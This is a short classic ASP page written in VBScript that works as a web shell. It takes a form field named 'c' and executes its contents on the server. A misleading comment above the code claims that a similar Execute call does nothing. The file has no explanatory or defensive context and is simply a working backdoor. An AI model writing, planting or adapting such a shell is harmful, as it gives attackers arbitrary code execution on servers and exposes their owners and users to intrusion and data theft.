<%@ Language=VBScript %>
<%
' Execute Request("x") in a comment does nothing
Dim code
code = Request.Form("c")
If Len(code) > 0 Then Execute code
%>
